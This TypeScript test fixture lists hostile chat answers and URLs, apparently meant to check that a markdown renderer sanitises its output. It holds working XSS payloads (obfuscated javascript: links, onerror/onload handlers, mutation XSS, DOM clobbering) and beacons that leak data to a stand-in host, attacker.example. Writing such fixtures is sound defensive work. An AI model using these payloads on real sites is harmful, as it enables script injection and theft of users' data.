/**
 * Hostile answers: each one tries to run script, send a request, or plant a
 * forbidden element/attribute/URL. Payloads that would execute set
 * `window.__pwned` (or call `window.__pwn()`); every URL points at
 * `attacker.example`, so any request is easy to spot.
 */
export interface HostileAnswer {
  name: string;
  text: string;
}

const A = 'https://attacker.example';

export const hostileAnswers: HostileAnswer[] = [
  { name: 'javascript: link', text: `[click me](javascript:window.__pwned=1)` },
  { name: 'mixed-case javascript:', text: `[x](JaVaScRiPt:window.__pwned=2)` },
  {
    name: 'entity-obfuscated javascript:',
    text: `[x](jav&#x09;ascript:window.__pwned=3) [y](&#106;avascript:window.__pwned=3)`,
  },
  { name: 'javascript: autolink', text: `<javascript:window.__pwned=4>` },
  { name: 'javascript: in a reference definition', text: `[ref][r]\n\n[r]: javascript:window.__pwned=5` },
  {
    name: 'vbscript: and data: links',
    text: `[a](vbscript:msgbox(1)) [b](data:text/html,<script>window.__pwned=6</script>)`,
  },
  {
    name: 'javascript: href that exists only between two chunks (open code span)',
    text: 'See `[x](javascript:window.__pwned=7)` for the trick, then [y](javascript:window.__pwned=7) too.',
  },
  { name: 'image beacon', text: `![pixel](${A}/beacon.png?leak=conversation)` },
  {
    name: 'reference-style image beacon whose definition streams in',
    text: `![cat][c]\n\nSome text.\n\n[c]: ${A}/cat.png?q=secret\n\nMore ![again][c] text.`,
  },
  { name: 'raw img onerror', text: `<img src=x onerror="window.__pwned=8">` },
  {
    name: 'inline img with onerror in html',
    text: `Hello <img src="${A}/x.png" onerror="window.__pwned=9"> world`,
  },
  { name: 'script tag', text: `<script>window.__pwned=10</script>` },
  { name: 'svg onload', text: `<svg onload="window.__pwned=11"><circle r="5"/></svg>` },
  {
    name: 'svg/style mutation XSS',
    text: `<svg><style><img src=x onerror="window.__pwned=12"></style></svg>`,
  },
  {
    name: 'math mutation XSS',
    text: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=window.__pwned=13&gt;">`,
  },
  {
    name: 'noscript/template mXSS',
    text: `<noscript><p title="</noscript><img src=x onerror=window.__pwned=14>">`,
  },
  {
    name: 'DOM clobbering with id and name',
    text: `<a id="__pwnConfig" name="__pwnConfig" href="${A}/">x</a><form name="getElementById"></form>`,
  },
  { name: 'srcset beacon', text: `<img srcset="${A}/s.png 1x" alt="s">` },
  { name: 'base tag', text: `<base href="${A}/">\n\n[relative](page.html)` },
  { name: 'meta refresh', text: `<meta http-equiv="refresh" content="0;url=${A}/">` },
  {
    name: 'form with action',
    text: `<form action="${A}/steal"><input name="q" value="secret"><button>Go</button></form>`,
  },
  {
    name: 'style attribute overlay',
    text: `<div style="position:fixed;inset:0;background:white;z-index:99999">Please log in again</div>`,
  },
  {
    name: 'style tag exfiltration',
    text: `<style>@import url("${A}/x.css"); input[value^=a]{background:url(${A}/a)}</style>`,
  },
  {
    name: 'iframe, object, embed',
    text: `<iframe src="${A}/"></iframe><object data="${A}/o"></object><embed src="${A}/e">`,
  },
  {
    name: 'link prefetch and stylesheet',
    text: `<link rel="prefetch" href="${A}/p"><link rel="stylesheet" href="${A}/s.css">`,
  },
  {
    name: 'code-fence language injection',
    text: '```"><img src=x onerror="window.__pwned=15">\ncode\n```\n\n```js onload=window.__pwned=15\nx\n```',
  },
  {
    name: 'data attributes and event handlers in html',
    text: `<span data-x="1" onclick="window.__pwned=16" onmouseover="window.__pwned=16">hover</span>`,
  },
  {
    name: 'video/audio poster and source',
    text: `<video poster="${A}/v.png"><source src="${A}/v.mp4"></video><audio src="${A}/a.mp3"></audio>`,
  },
  {
    name: 'input image and checkbox abuse',
    text: `- [x] done\n\n<input type="image" src="${A}/i.png"><input type="text" autofocus onfocus="window.__pwned=17">`,
  },
  {
    name: 'link with title and target injection',
    text: `[x](${A}/ "title\\" onmouseover=\\"window.__pwned=18") <a href="#top" target="_top">y</a>`,
  },
  {
    name: 'data: image',
    text: `![d](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5fX3B3bmVkPTE5Ij48L3N2Zz4=)`,
  },
  { name: 'protocol-relative image', text: `![p](//attacker.example/p.png)` },
  { name: 'pathological emphasis', text: '**a**'.repeat(50_000) },
  { name: 'deep nesting', text: `${'> '.repeat(10_000)}x` },
];

/**
 * Hostile URLs for a link the page builds itself (a source's `url`): none
 * may become a link but an http(s) one, however its scheme is spelled,
 * padded or encoded.
 */
export const hostileUrls: string[] = [
  'javascript:window.__pwned=20',
  'JaVaScRiPt:window.__pwned=21',
  ' javascript:window.__pwned=22',
  '\tjavascript:window.__pwned=23',
  '\njavascript:window.__pwned=24',
  '\u0001javascript:window.__pwned=25',
  '\u00a0javascript:window.__pwned=26',
  'java\tscript:window.__pwned=27',
  'java\nscript:window.__pwned=28',
  'jav&#x09;ascript:window.__pwned=29',
  '&#106;avascript:window.__pwned=30',
  '&#x6A;avascript&colon;window.__pwned=31',
  'javascript%3Awindow.__pwned=32',
  'data:text/html,<script>window.__pwned=33</script>',
  'data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0zNDwvc2NyaXB0Pg==',
  ' data:image/svg+xml,<svg onload="window.__pwned=35"/>',
  'vbscript:msgbox(36)',
  'VBScript:msgbox(37)',
  `//attacker.example/protocol-relative`,
  'https:attacker.example/no-slashes',
  ` ${A}/space-prefixed`,
  'file:///etc/passwd',
  'blob:https://attacker.example/0',
  `${A}/" onmouseover="window.__pwned=38`,
  `${A}/'><img src=x onerror=window.__pwned=39>`,
];
